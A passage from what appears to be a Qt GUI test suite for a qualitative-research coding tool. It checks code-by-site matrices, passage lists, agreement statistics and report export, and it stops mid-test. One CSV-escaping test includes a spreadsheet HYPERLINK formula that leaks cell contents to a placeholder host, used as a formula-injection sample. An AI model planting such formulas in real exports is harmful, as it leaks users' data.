// The Compare view and the report dialog with real widgets, offscreen, on a small project whose numbers are worked
// out by hand below: the matrix for every measure and filter, the passages behind a cell, a bar and a pair, the
// jump to the document, CSV on the clipboard, the chart as PNG, the agreement table and the report in every format.

#include "compare/AgreementModel.h"
#include "compare/AgreementTab.h"
#include "compare/BarChart.h"
#include "compare/CompareWindow.h"
#include "compare/CooccurrenceModel.h"
#include "compare/CooccurrenceTab.h"
#include "compare/DisagreementModel.h"
#include "compare/MatrixModel.h"
#include "compare/MatrixTab.h"
#include "compare/PassagesDialog.h"
#include "compare/TableCsv.h"
#include "compare/WordFrequencyModel.h"
#include "compare/WordsTab.h"
#include "document/DocumentView.h"
#include "mainwindow/MainWindow.h"
#include "mainwindow/Workspace.h"
#include "project/Codebook.h"
#include "project/CodingStore.h"
#include "project/DocumentStore.h"
#include "project/Project.h"
#include "reports/ReportDialog.h"
#include "settings/Settings.h"

#include <QAbstractItemModelTester>
#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QClipboard>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QListWidget>
#include <QSettings>
#include <QLocale>
#include <QSignalSpy>
#include <QSpinBox>
#include <QStandardItemModel>
#include <QStandardPaths>
#include <QTabWidget>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBrowser>

using namespace marginalia;

namespace {

// Beijing: two documents (50 + 27 = 77 characters); Kunming: one (41 characters). 118 in all.
//   bj1: "Exam pressure is high.\nWorkload grows every term.\n"   "Workload" at 23, "high" at 17
//   bj2: "Parents worry about exams.\n"                           no codings
//   km1: "Kunming teachers feel exam pressure too.\n"            "exam pressure" at 22
const QString kBj1 = QStringLiteral("Exam pressure is high.\nWorkload grows every term.\n");
const QString kBj2 = QStringLiteral("Parents worry about exams.\n");
const QString kKm1 = QStringLiteral("Kunming teachers feel exam pressure too.\n");

// Codings (code, coder, document, range):
//   c1  exam pressure  ann  bj1 [0,13)   "Exam pressure"
//   c2  exam pressure  bob  bj1 [0,22)   "Exam pressure is high."
//   c3  workload       ann  bj1 [23,31)  "Workload"
//   c4  workload       bob  bj1 [17,49)  "high.\nWorkload grows every term."
//   c5  exam pressure  ann  km1 [22,35)  "exam pressure"

} // namespace

class TestCompareGui : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_path;
    qint64 m_bj1 = 0;
    qint64 m_km1 = 0;
    qint64 m_exam = 0;
    qint64 m_workload = 0;
    QList<qint64> m_codings;
    std::unique_ptr<MainWindow> m_window;
    CompareWindow *m_compare = nullptr;

    MatrixTab *matrix() { return m_compare->matrixTab(); }

    static void doubleClick(QTableView *view, const QModelIndex &index)
    {
        view->scrollTo(index);
        const QPoint center = view->visualRect(index).center();
        QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, center);
        QTest::mouseDClick(view->viewport(), Qt::LeftButton, {}, center);
    }

    static QStringList column(const QAbstractItemModel *model, int column)
    {
        QStringList values;
        for (int row = 0; row < model->rowCount(); ++row)
            values.append(model->index(row, column).data().toString());
        return values;
    }

    static QList<qint64> passageIds(const PassagesDialog *dialog)
    {
        QList<qint64> ids;
        for (const Passage &passage : dialog->model()->passages())
            ids.append(passage.codingId);
        return ids;
    }

    // Chooses an item of a combo as a user would and waits for the tab to show the new result.
    static void choose(QComboBox *combo, const QString &text, CompareTab *tab)
    {
        QSignalSpy refreshed(tab, &CompareTab::refreshed);
        const int index = combo->findText(text);
        QVERIFY2(index >= 0, qPrintable(text));
        combo->setCurrentIndex(index);
        QVERIFY(refreshed.wait(10000));
    }

    QString matrixCell(int row, int column) { return matrix()->model()->index(row, column).data().toString(); }

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        QCoreApplication::setOrganizationName(QStringLiteral("MarginaliaTest"));
        QCoreApplication::setApplicationName(QStringLiteral("test_compare_gui"));
        QSettings::setDefaultFormat(QSettings::IniFormat);
        QSettings::setPath(QSettings::IniFormat, QSettings::UserScope, m_dir.filePath(QStringLiteral("settings")));
        QSettings().clear();

        QVERIFY(m_dir.isValid());
        m_path = m_dir.filePath(QStringLiteral("compare.marginalia"));
        auto project = Project::create(m_path);
        QVERIFY2(project, qPrintable(project ? QString() : project.error()));
        DocumentStore documents(**project);
        auto addDocument = [&](const QString &name, const QString &text, const QString &site, const QString &kind) {
            NewDocument document;
            document.name = name;
            document.text = text;
            auto id = documents.add(document);
            if (!id)
                qFatal("%s", qPrintable(id.error()));
            documents.setAttribute(*id, QStringLiteral("site"), site);
            documents.setAttribute(*id, QStringLiteral("kind"), kind);
            return *id;
        };
        m_bj1 = addDocument(QStringLiteral("bj1"), kBj1, QStringLiteral("Beijing"), QStringLiteral("teacher interview"));
        addDocument(QStringLiteral("bj2"), kBj2, QStringLiteral("Beijing"), QStringLiteral("teacher interview"));
        m_km1 = addDocument(QStringLiteral("km1"), kKm1, QStringLiteral("Kunming"), QStringLiteral("class observation"));
        Codebook codebook(**project);
        m_exam = *codebook.add({QStringLiteral("exam pressure"), 0, QStringLiteral("#e06c75"), {}, {}});
        m_workload = *codebook.add({QStringLiteral("workload"), 0, QStringLiteral("#61afef"), {}, {}});
        CodingStore codings(**project);
        const QList<std::tuple<qint64, qint64, qint64, qint64, QString>> planned = {
            {m_bj1, m_exam, 0, 13, QStringLiteral("ann")},     {m_bj1, m_exam, 0, 22, QStringLiteral("bob")},
            {m_bj1, m_workload, 23, 31, QStringLiteral("ann")}, {m_bj1, m_workload, 17, 49, QStringLiteral("bob")},
            {m_km1, m_exam, 22, 35, QStringLiteral("ann")},
        };
        for (const auto &[document, code, start, end, coder] : planned) {
            NewCoding coding;
            coding.documentId = document;
            coding.codeId = code;
            coding.start = start;
            coding.end = end;
            coding.coder = coder;
            auto added = codings.add(coding);
            QVERIFY2(added, qPrintable(added ? QString() : added.error()));
            m_codings.append(added->id);
        }
        project->reset();

        Settings().setCoderName(QStringLiteral("ann"));
        m_window = std::make_unique<MainWindow>();
        QVERIFY(m_window->openProject(m_path));
        m_window->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));

        auto *action = m_window->findChild<QAction *>(QStringLiteral("compareMatrixAction"));
        QVERIFY(action);
        QVERIFY(action->isEnabled());
        action->trigger();
        m_compare = m_window->findChild<CompareWindow *>();
        QVERIFY(m_compare);
        QVERIFY(QTest::qWaitForWindowExposed(m_compare));
        QCOMPARE(m_compare->tabs()->currentWidget(), matrix());
        QTRY_VERIFY_WITH_TIMEOUT(!m_compare->isBusy() && matrix()->model()->rowCount() == 3, 10000);
        for (QAbstractItemModel *model :
             std::initializer_list<QAbstractItemModel *>{matrix()->model(), m_compare->cooccurrenceTab()->model(),
                                                         m_compare->wordsTab()->model(), m_compare->agreementTab()->model(),
                                                         m_compare->agreementTab()->disagreementModel()})
            new QAbstractItemModelTester(model, QAbstractItemModelTester::FailureReportingMode::QtTest, this);
    }

    void cleanupTestCase()
    {
        m_window.reset();
    }

    void matrixShowsEveryMeasure()
    {
        MatrixModel *model = matrix()->model();
        QCOMPARE(model->columnCount(), 4);
        QCOMPARE(model->headerData(0, Qt::Horizontal).toString(), QStringLiteral("Code"));
        QCOMPARE(model->headerData(1, Qt::Horizontal).toString(), QStringLiteral("Beijing"));
        QCOMPARE(model->headerData(2, Qt::Horizontal).toString(), QStringLiteral("Kunming"));
        QCOMPARE(model->headerData(3, Qt::Horizontal).toString(), QStringLiteral("Total"));
        QCOMPARE(column(model, 0), (QStringList{QStringLiteral("exam pressure"), QStringLiteral("workload"),
                                                QStringLiteral("Total (any code)")}));
        // Rows: exam pressure, workload, any code; columns: Beijing, Kunming, total.
        //   passages and codings alike (no two codings share document, code, start and end):
        //     exam 2 (c1, c2) | 1 (c5) | 3;  workload 2 | 0 | 2;  any 4 | 1 | 5
        //   documents: exam 1 | 1 | 2; workload 1 | 0 | 1; any 1 | 1 | 2
        //   % documents (Beijing has 2, Kunming 1, all 3): exam 50.0 | 100.0 | 66.7; workload 50.0 | 0.0 | 33.3
        //   coded characters, the union per document: exam [0,22) = 22 | 13 | 35; workload [17,49) = 32 | 0 | 32;
        //     any code [0,22) ∪ [17,49) = [0,49) = 49 | 13 | 62
        //   per 10,000: 22e4/77 = 2857.14 | 13e4/41 = 3170.73 | 35e4/118 = 2966.10; 32e4/77 = 4155.84 | 0 | 32e4/118 =
        //     2711.86; any 49e4/77 = 6363.64 | 3170.73 | 62e4/118 = 5254.24
        const QList<std::pair<QString, QList<QList<const char *>>>> expected = {
            {QStringLiteral("Passages"), {{"2", "1", "3"}, {"2", "0", "2"}, {"4", "1", "5"}}},
            {QStringLiteral("Codings"), {{"2", "1", "3"}, {"2", "0", "2"}, {"4", "1", "5"}}},
            {QStringLiteral("Documents"), {{"1", "1", "2"}, {"1", "0", "1"}, {"1", "1", "2"}}},
            {QStringLiteral("% of documents"), {{"50.0", "100.0", "66.7"}, {"50.0", "0.0", "33.3"}, {"50.0", "100.0", "66.7"}}},
            {QStringLiteral("Coded characters"), {{"22", "13", "35"}, {"32", "0", "32"}, {"49", "13", "62"}}},
            {QStringLiteral("Per 10,000 characters"),
             {{"2857.14", "3170.73", "2966.10"}, {"4155.84", "0.00", "2711.86"}, {"6363.64", "3170.73", "5254.24"}}},
        };
        for (const auto &[measure, rows] : expected) {
            const int index = matrix()->measureCombo()->findText(measure);
            QVERIFY2(index >= 0, qPrintable(measure));
            matrix()->measureCombo()->setCurrentIndex(index);
            for (int row = 0; row < 3; ++row) {
                for (int col = 0; col < 3; ++col)
                    QCOMPARE(matrixCell(row, col + 1), QString::fromLatin1(rows[row][col]));
            }
        }
        // The heat map: the largest ordinary cell is the darkest; totals are grey, not shaded.
        const auto background = [&](int row, int col) {
            return model->index(row, col).data(Qt::BackgroundRole).value<QBrush>().color();
        };
        QVERIFY(background(1, 1).lightness() < background(0, 1).lightness());   // 4155.84 is darker than 2857.14
        QCOMPARE(background(1, 2), QColor(Qt::white));                            // 0
        QCOMPARE(background(2, 1), QColor(0xee, 0xee, 0xee));
        matrix()->measureCombo()->setCurrentIndex(0);
    }

    void matrixFiltersByCoderAndKindAndRollsUp()
    {
        choose(matrix()->coderCombo(), QStringLiteral("ann"), matrix());
        // ann: c1 (13 characters) and c5 of exam pressure, c3 (8 characters) of workload.
        QCOMPARE(matrixCell(0, 1), QStringLiteral("1"));
        QCOMPARE(matrixCell(0, 2), QStringLiteral("1"));
        QCOMPARE(matrixCell(1, 1), QStringLiteral("1"));
        matrix()->measureCombo()->setCurrentIndex(matrix()->measureCombo()->findText(QStringLiteral("Coded characters")));
        QCOMPARE(matrixCell(0, 1), QStringLiteral("13"));
        QCOMPARE(matrixCell(1, 1), QStringLiteral("8"));
        matrix()->measureCombo()->setCurrentIndex(0);
        choose(matrix()->coderCombo(), QStringLiteral("All coders"), matrix());
        QCOMPARE(matrixCell(0, 1), QStringLiteral("2"));

        choose(matrix()->kindCombo(), QStringLiteral("class observation"), matrix());
        // Only km1: exam pressure 1 segment in Kunming, nothing in Beijing.
        const int kunming = matrix()->model()->columnCount() - 2;
        QCOMPARE(matrix()->model()->headerData(kunming, Qt::Horizontal).toString(), QStringLiteral("Kunming"));
        QCOMPARE(matrixCell(0, kunming), QStringLiteral("1"));
        QCOMPARE(matrixCell(0, matrix()->model()->columnCount() - 1), QStringLiteral("1"));
        QCOMPARE(matrixCell(1, matrix()->model()->columnCount() - 1), QStringLiteral("0"));
        choose(matrix()->kindCombo(), QStringLiteral("All kinds"), matrix());
        QCOMPARE(matrixCell(2, 3), QStringLiteral("5"));

        // The columns can be any attribute: by kind, class observation | teacher interview.
        choose(matrix()->attributeCombo(), QStringLiteral("kind"), matrix());
        QCOMPARE(matrix()->model()->headerData(1, Qt::Horizontal).toString(), QStringLiteral("class observation"));
        QCOMPARE(matrixCell(0, 1), QStringLiteral("1"));
        QCOMPARE(matrixCell(0, 2), QStringLiteral("2"));
        choose(matrix()->attributeCombo(), QStringLiteral("site"), matrix());
        QCOMPARE(matrix()->model()->headerData(1, Qt::Horizontal).toString(), QStringLiteral("Beijing"));

        QSignalSpy refreshed(matrix(), &CompareTab::refreshed);
        matrix()->rollUpCheck()->setChecked(true);
        QVERIFY(refreshed.wait(10000));
        QVERIFY(matrix()->options().rollUp);
        QCOMPARE(matrixCell(0, 3), QStringLiteral("3"));   // no sub-codes: the same numbers
        matrix()->rollUpCheck()->setChecked(false);
        QVERIFY(refreshed.wait(10000));
    }

    void doubleClickingACellListsItsPassagesAndJumps()
    {
        QTableView *view = matrix()->table();
        doubleClick(view, matrix()->model()->index(0, 1));   // exam pressure × Beijing
        PassagesDialog *dialog = m_compare->passagesDialog();
        QVERIFY(dialog);
        QVERIFY(QTest::qWaitForWindowExposed(dialog));
        QCOMPARE(passageIds(dialog), (QList<qint64>{m_codings[0], m_codings[1]}));
        QCOMPARE(dialog->model()->passages()[0].text, QStringLiteral("Exam pressure"));
        QCOMPARE(dialog->model()->passages()[1].text, QStringLiteral("Exam pressure is high."));
        QCOMPARE(dialog->model()->passages()[1].who, QStringLiteral("bob"));
        // Citations: bj1's first line "Exam pressure is high." is paragraph 1; characters counted from 1.
        QCOMPARE(dialog->model()->index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 1"));
        QCOMPARE(dialog->model()->index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–13"));
        QCOMPARE(dialog->model()->index(1, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–22"));

        // From the passage to the document: the view shows bj1 with [0,22) selected.
        doubleClick(dialog->view(), dialog->model()->index(1, PassagesModel::TextColumn));
        DocumentView *documentView = m_window->workspace()->documentView();
        QCOMPARE(documentView->documentId(), m_bj1);
        QCOMPARE(documentView->selectedSpan(), (TextSpan{0, 22}));

        // The Kunming cell of the totals row: c5 only; the total column of workload: c4, c3 (document order).
        doubleClick(view, matrix()->model()->index(2, 2));
        QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[4]}));
        doubleClick(view, matrix()->model()->index(1, 3));
        QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[3], m_codings[2]}));
        doubleClick(view, matrix()->model()->index(1, 2));   // workload × Kunming: none
        QCOMPARE(m_compare->passagesDialog()->model()->rowCount(), 0);
        m_compare->passagesDialog()->close();
    }

    void chartShowsTheCurrentCodeAndItsBarsLeadToPassages()
    {
        QTableView *view = matrix()->table();
        view->setCurrentIndex(matrix()->model()->index(1, 0));   // workload
        BarChart *chart = matrix()->chart();
        QCOMPARE(chart->bars().size(), 2);
        QCOMPARE(chart->bars()[0].label, QStringLiteral("Beijing"));
        QCOMPARE(chart->bars()[0].value, 2.0);
        QCOMPARE(chart->bars()[1].value, 0.0);
        QVERIFY(chart->title().contains(QStringLiteral("workload")));
        matrix()->measureCombo()->setCurrentIndex(matrix()->measureCombo()->findText(QStringLiteral("Per 10,000 characters")));
        QCOMPARE(chart->bars()[0].valueText, QStringLiteral("4155.84"));
        matrix()->measureCombo()->setCurrentIndex(0);

        const QRect bar = chart->barRect(0);
        QVERIFY(!bar.isEmpty());
        QCOMPARE(chart->barAt(bar.center()), 0);
        QTest::mouseDClick(chart, Qt::LeftButton, {}, bar.center());
        QVERIFY(m_compare->passagesDialog());
        QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[3], m_codings[2]}));
        QCOMPARE(m_compare->passagesDialog()->model()->passages()[0].text,
                 QStringLiteral("high.\nWorkload grows every term."));
        // [17,49) runs from paragraph 1 into paragraph 2 (which starts at 23).
        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::ParagraphColumn).data().toString(),
                 QStringLiteral("¶ 1–2"));
        m_compare->passagesDialog()->close();

        const QString png = m_dir.filePath(QStringLiteral("chart.png"));
        QVERIFY(matrix()->saveChart(png));
        QImage image(png);
        QVERIFY(!image.isNull());
        QCOMPARE(image.size(), chart->size());
        QVERIFY(QFileInfo(png).size() > 0);
        // The bar is painted: its centre has the bar colour, not the background.
        QVERIFY(image.pixelColor(bar.center()) != chart->palette().color(QPalette::Base));
    }

    void copiesTheTableAsCsv()
    {
        QTableView *view = matrix()->table();
        view->setFocus();
        QApplication::clipboard()->clear();
        QTest::keySequence(view, QKeySequence::Copy);
        QCOMPARE(QApplication::clipboard()->text(),
                 QStringLiteral("Code,Beijing,Kunming,Total\nexam pressure,2,1,3\nworkload,2,0,2\n"
                                "Total (any code),4,1,5\n"));
        // Quoting: a field with a comma is quoted.
        QCOMPARE(tableCsv(matrix()->model()).count(u'\n'), 4);
        view->setColumnHidden(2, true);
        copyTableAsCsv(view);
        QVERIFY(QApplication::clipboard()->text().startsWith(QStringLiteral("Code,Beijing,Total\nexam pressure,2,3\n")));
        view->setColumnHidden(2, false);
    }

    // Copy as CSV neutralises text a spreadsheet would run; numbers the model holds stay numbers.
    void copiedCsvCannotRunFormulas()
    {
        QStandardItemModel model(1, 4);
        model.setHorizontalHeaderLabels({QStringLiteral("=name"), QStringLiteral("count"), QStringLiteral("kappa"),
                                         QStringLiteral("text")});
        model.setItem(0, 0, new QStandardItem(QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)")));
        auto *count = new QStandardItem;
        count->setData(-3, Qt::DisplayRole);
        model.setItem(0, 1, count);
        model.setItem(0, 2, new QStandardItem(QStringLiteral("-0.25")));
        model.setItem(0, 3, new QStandardItem(QStringLiteral("@SUM(1)")));
        QCOMPARE(tableCsv(&model), QStringLiteral("'=name,count,kappa,text\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-3,-0.25,'@SUM(1)\n"));
    }

    // A passage two coders coded identically is one row of the passages list, naming both.
    void passagesListShowsAPassageOnceWithItsCoders()
    {
        QTemporaryDir folder;
        auto project = Project::create(QDir(folder.path()).filePath(QStringLiteral("p.marginalia")));
        QVERIFY(project);
        NewDocument document;
        document.name = QStringLiteral("t");
        document.text = QStringLiteral("intro\n\nT: we teach to the exam\n");   // paragraph 2 starts at 7
        auto documentId = DocumentStore(**project).add(document);
        QVERIFY(documentId);
        auto codeId = Codebook(**project).add({QStringLiteral("exam"), 0, QStringLiteral("#e06c75"), {}, {}});
        QVERIFY(codeId);
        for (const QString &coder : {QStringLiteral("bob"), QStringLiteral("ann")}) {
            NewCoding coding;
            coding.documentId = *documentId;
            coding.codeId = *codeId;
            coding.start = 10;   // "we teach"
            coding.end = 18;
            coding.coder = coder;
            QVERIFY(CodingStore(**project).add(coding));
        }
        CodingFilter filter;
        filter.codeIds = {*codeId};
        filter.passages = true;
        auto segments = CodingStore(**project).segments(filter);
        QVERIFY(segments);
        QList<Passage> passages;
        for (const CodedSegment &segment : std::as_const(*segments))
            passages.append(Passage::fromSegment(segment));
        PassagesModel model;
        model.setPassages(passages);
        QCOMPARE(model.rowCount(), 1);
        QCOMPARE(model.index(0, PassagesModel::WhoColumn).data().toString(), QStringLiteral("ann, bob"));
        QCOMPARE(model.index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 2 (T)"));
        QCOMPARE(model.index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("11–18"));
        QCOMPARE(model.index(0, PassagesModel::TextColumn).data().toString(), QStringLiteral("we teach"));
    }

    void cooccurrenceListsPairsAndTheirPassages()
    {
        m_compare->showTab(CompareWindow::CooccurrencePage);
        CooccurrenceTab *tab = m_compare->cooccurrenceTab();
        // Overlap: only c2 [0,22) and c4 [17,49) share characters (17–22) among codings of different codes.
        tab->views()->setCurrentIndex(CooccurrenceTab::ListView);
        QTRY_COMPARE(tab->model()->rowCount(), 1);
        const QModelIndex pair = tab->model()->index(0, CooccurrenceModel::CountColumn);
        QCOMPARE(tab->model()->index(0, 0).data().toString(), QStringLiteral("exam pressure"));
        QCOMPARE(tab->model()->index(0, 1).data().toString(), QStringLiteral("workload"));
        QCOMPARE(pair.data().toString(), QStringLiteral("2"));   // passages behind the pair: c2 and c4
        QCOMPARE(tab->model()->index(0, CooccurrenceModel::DocumentsColumn).data().toString(), QStringLiteral("1"));
        doubleClick(tab->listView(), pair);
        QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[1], m_codings[3]}));
        m_compare->passagesDialog()->close();
        // Paragraph: the first line of bj1 is touched by both codes (c1, c2 and c4); the second by workload only.
        choose(tab->unitCombo(), QStringLiteral("Same paragraph"), tab);
        QCOMPARE(tab->model()->rowCount(), 1);
        QCOMPARE(tab->model()->index(0, CooccurrenceModel::CountColumn).data().toString(), QStringLiteral("1"));
        QCOMPARE(tab->model()->headerData(CooccurrenceModel::CountColumn, Qt::Horizontal).toString(),
                 QStringLiteral("Paragraphs"));
        choose(tab->unitCombo(), QStringLiteral("Overlapping codings"), tab);
    }

    void wordFrequenciesPerSite()
    {
        m_compare->showTab(CompareWindow::WordsPage);
        WordsTab *tab = m_compare->wordsTab();
        QTRY_VERIFY(tab->model()->rowCount() > 0);
        choose(tab->siteCombo(), QStringLiteral("Kunming"), tab);
        // "Kunming teachers feel exam pressure too.": each word once, in one document.
        const QStringList words = column(tab->model(), WordFrequencyModel::WordColumn);
        QVERIFY2(words.contains(QStringLiteral("pressure")), qPrintable(words.join(u' ')));
        QVERIFY(!words.contains(QStringLiteral("workload")));
        const int row = static_cast<int>(words.indexOf(QStringLiteral("pressure")));
        QCOMPARE(tab->model()->index(row, WordFrequencyModel::CountColumn).data().toString(), QStringLiteral("1"));
        doubleClick(tab->table(), tab->model()->index(row, WordFrequencyModel::WordColumn));
        const QList<Passage> &passages = m_compare->passagesDialog()->model()->passages();
        QCOMPARE(passages.size(), 1);
        QCOMPARE(passages[0].documentId, m_km1);
        QCOMPARE(passages[0].start, 27);
        QCOMPARE(passages[0].end, 35);
        QCOMPARE(passages[0].firstParagraph, 1);   // km1 is one line
        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::PositionColumn).data().toString(),
                 QStringLiteral("28–35"));
        m_compare->passagesDialog()->close();

        QSignalSpy refreshed(tab, &CompareTab::refreshed);
        tab->topSpin()->setValue(1);
        QVERIFY(refreshed.wait(10000));
        QCOMPARE(tab->model()->rowCount(), 1);
        choose(tab->siteCombo(), QStringLiteral("Beijing"), tab);
        QVERIFY(column(tab->model(), WordFrequencyModel::WordColumn).size() == 1);
        tab->topSpin()->setValue(50);
        QVERIFY(refreshed.wait(10000));
        QVERIFY(column(tab->model(), WordFrequencyModel::WordColumn).contains(QStringLiteral("workload")));
    }

    void agreementTableMatchesTheTextbook()
    {
        m_compare->showTab(CompareWindow::AgreementPage);
        AgreementTab *tab = m_compare->agreementTab();
        QCOMPARE(tab->chosenCoders(), (QStringList{QStringLiteral("ann"), QStringLiteral("bob")}));
        QTRY_COMPARE(tab->model()->rowCount(), 3);
        // Compared: the documents both coders coded, bj1 only: 50 characters per code.
        // exam pressure: ann [0,13), bob [0,22): both yes 13, bob only 9, neither 28.
        //   Po = 41/50 = 0.82; P(ann yes) = 0.26, P(bob yes) = 0.44; Pe = 0.26·0.44 + 0.74·0.56 = 0.5288;
        //   κ = (0.82 − 0.5288) / (1 − 0.5288) = 0.2912 / 0.4712 = 0.618.
        //   α: 100 values, 35 yes, 65 no, 9 disagreeing units: 1 − 99·9 / (35·65) = 1 − 891/2275 = 0.608.
        // workload: ann [23,31), bob [17,49): both 8, bob only 24, neither 18.
        //   Po = 26/50 = 0.52; Pe = 0.16·0.64 + 0.84·0.36 = 0.4048; κ = 0.1152 / 0.5952 = 0.194;
        //   α = 1 − 99·24 / (40·60) = 1 − 2376/2400 = 0.010.
        // Overall (100 units): both 21, one 33, neither 46: Po = 0.67; Pe = 0.21·0.54 + 0.79·0.46 = 0.4768;
        //   κ = 0.1932 / 0.5232 = 0.369.
        // Document level: both coders applied both codes in bj1: 100 %, κ n/a (Pe = 1).
        AgreementModel *model = tab->model();
        auto cell = [&](int row, int column) { return model->index(row, column).data().toString(); };
        QCOMPARE(cell(0, AgreementModel::CodeColumn), QStringLiteral("exam pressure"));
        QCOMPARE(cell(0, AgreementModel::UnitsColumn), QStringLiteral("50"));
        QCOMPARE(cell(0, AgreementModel::PercentColumn), QStringLiteral("82.0"));
        QCOMPARE(cell(0, AgreementModel::KappaColumn), QStringLiteral("0.618"));
        QCOMPARE(cell(0, AgreementModel::AlphaColumn), QStringLiteral("0.608"));
        QCOMPARE(cell(1, AgreementModel::PercentColumn), QStringLiteral("52.0"));
        QCOMPARE(cell(1, AgreementModel::KappaColumn), QStringLiteral("0.194"));
        QCOMPARE(cell(1, AgreementModel::AlphaColumn), QStringLiteral("0.010"));
        QCOMPARE(cell(2, AgreementModel::CodeColumn), QStringLiteral("Overall"));
        QCOMPARE(cell(2, AgreementModel::PercentColumn), QStringLiteral("67.0"));
        QCOMPARE(cell(2, AgreementModel::KappaColumn), QStringLiteral("0.369"));
        QCOMPARE(cell(0, AgreementModel::DocumentPercentColumn), QStringLiteral("100.0"));
        QCOMPARE(cell(0, AgreementModel::DocumentKappaColumn), QStringLiteral("n/a"));

        // Disagreements: exam pressure [13,22) by bob; workload [17,23) and [31,49) by bob.
        DisagreementModel *disagreements = tab->disagreementModel();
        QCOMPARE(disagreements->rowCount(), 3);
        doubleClick(tab->agreementView(), model->index(1, AgreementModel::CodeColumn));
        const QList<Passage> &passages = m_compare->passagesDialog()->model()->passages();
        QCOMPARE(passages.size(), 2);
        QCOMPARE((TextSpan{passages[0].start, passages[0].end}), (TextSpan{17, 23}));
        QCOMPARE((TextSpan{passages[1].start, passages[1].end}), (TextSpan{31, 49}));
        QCOMPARE(passages[1].text, QStringLiteral(" grows every term."));
        // [17,23) is "high.\n": bj1's line 1 ([0,22)) and its line break, not line 2 (which starts at 23);
        // [31,49) is in line 2.
        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::ParagraphColumn).data().toString(),
                 QStringLiteral("¶ 1"));
        QCOMPARE(m_compare->passagesDialog()->model()->index(1, PassagesModel::ParagraphColumn).data().toString(),
                 QStringLiteral("¶ 2"));
        m_compare->passagesDialog()->close();
        // A disagreement jumps straight to the document.
        int examRow = -1;
        for (int row = 0; row < disagreements->rowCount(); ++row) {
            if (disagreements->disagreements()[row].codeId == m_exam)
                examRow = row;
        }
        QVERIFY(examRow >= 0);
        doubleClick(tab->disagreementView(), disagreements->index(examRow, DisagreementModel::TextColumn));
        QCOMPARE(m_window->workspace()->documentView()->selectedSpan(), (TextSpan{13, 22}));

        // One coder is not enough.
        QSignalSpy refreshed(tab, &CompareTab::refreshed);
        tab->chooseCoders({QStringLiteral("ann")});
        QVERIFY(refreshed.wait(10000));
        QCOMPARE(model->rowCount(), 0);
        tab->chooseCoders({QStringLiteral("ann"), QStringLiteral("bob")});
        QVERIFY(refreshed.wait(10000));
        QCOMPARE(model->rowCount(), 3);
    }

    // The Language combo starts on the interface language (QLocale's default, which the application sets from it);
    // its labels come from marginalia_<language>.qm beside the program or embedded in the application. This test
    // program has neither, so a German choice falls back to English labels rather than claiming German.
    void reportDialogLanguageFollowsTheInterface()
    {
        const QLocale before;
        QLocale::setDefault(QLocale(QStringLiteral("de_DE")));
        ReportDialog german(m_window->workspace()->context(), m_window.get());
        QLocale::setDefault(before);
        QCOMPARE(german.languageCombo()->currentData().toString(), QStringLiteral("de"));
        QCOMPARE(german.languageCombo()->count(), 4);
        QCOMPARE(german.options().labels.language(), QStringLiteral("en"));
        QTRY_VERIFY_WITH_TIMEOUT(!german.isPreviewing(), 10000);

        ReportDialog english(m_window->workspace()->context(), m_window.get());
        QCOMPARE(english.languageCombo()->currentData().toString(), QStringLiteral("en"));
        QCOMPARE(english.options().labels.language(), QStringLiteral("en"));
        QTRY_VERIFY_WITH_TIMEOUT(!english.isPreviewing(), 10000);
    }

    void reportDialogPreviewsAndSavesEveryFormat()
    {
        ReportDialog dialog(m_window->workspace()->context(), m_window.get());
        dialog.show();
        QVERIFY(QTest::qWaitForWindowExposed(&dialog));
        QTRY_VERIFY_WITH_TIMEOUT(!dialog.isPreviewing(), 10000);
        const QString preview = dialog.preview()->toPlainText();
        for (const QString &excerpt : {QStringLiteral("Exam pressure is high."), QStringLiteral("Workload"),
                                       QStringLiteral("Workload grows every term."), QStringLiteral("exam pressure")})
            QVERIFY2(preview.contains(excerpt), qPrintable(excerpt));

        // Only Kunming: the Beijing excerpts leave the preview (after the debounce).
        QSignalSpy updated(&dialog, &ReportDialog::previewUpdated);
        for (int row = 0; row < dialog.siteList()->count(); ++row) {
            if (dialog.siteList()->item(row)->text() == QStringLiteral("Kunming"))
                dialog.siteList()->item(row)->setCheckState(Qt::Checked);
        }
        QVERIFY(updated.wait(10000));
        QVERIFY(!dialog.preview()->toPlainText().contains(QStringLiteral("Exam pressure is high.")));
        QVERIFY(dialog.preview()->toPlainText().contains(QStringLiteral("km1")));
        QCOMPARE(dialog.options().sites, QStringList{QStringLiteral("Kunming")});
        for (int row = 0; row < dialog.siteList()->count(); ++row)
            dialog.siteList()->item(row)->setCheckState(Qt::Unchecked);
        dialog.contextSpin()->setValue(5);
        dialog.matrixCheck()->setChecked(true);
        QVERIFY(updated.wait(10000));
        QCOMPARE(dialog.options().contextLength, 5);
        QVERIFY(dialog.options().includeMatrix);

        for (ReportFormat format : {ReportFormat::Html, ReportFormat::Odt, ReportFormat::Docx, ReportFormat::Pdf,
                                    ReportFormat::Markdown, ReportFormat::Csv}) {
            dialog.setFormat(format);
            const QString path = m_dir.filePath(QStringLiteral("report.") + ReportDialog::extension(format));
            QSignalSpy saved(&dialog, &ReportDialog::saved);
            QSignalSpy failedSpy(&dialog, &ReportDialog::saveFailed);
            dialog.save(path);
            QVERIFY(dialog.isSaving());
            QTRY_VERIFY_WITH_TIMEOUT(!dialog.isSaving(), 20000);
